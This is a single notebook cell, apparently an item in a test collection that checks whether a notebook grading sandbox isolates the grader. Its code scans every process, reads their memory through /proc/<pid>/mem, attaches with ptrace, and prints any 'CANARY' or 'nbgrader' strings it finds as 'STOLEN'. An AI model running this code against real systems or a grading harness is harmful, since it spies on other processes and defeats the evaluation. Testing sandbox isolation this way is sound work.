# ---
# jupyter:
#   corpus:
#     title: the memory of the process that started the kernel
#     attempts: reads the memory of its ancestors by /proc/<pid>/mem, process_vm_readv and ptrace
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [process, files]
#     reference: false
# ---

# %% after="imports"
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    try:
        areas = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for area in areas[:200]:
            start, end = (int(number, 16) for number in re.match("(\\w+)-(\\w+)", area).groups())
            memory.seek(start)
            content = memory.read(min(end - start, 2**20))
            if b"CANARY" in content or b"nbgrader" in content:
                print("STOLEN:", pid, content[:100])
    except (OSError, AttributeError, OverflowError):
        pass
    if libc.ptrace(16, pid, 0, 0) == 0 and b"nbgrader" in open(f"/proc/{pid}/cmdline", "rb").read():
        print("STOLEN: ptrace attached to", pid)
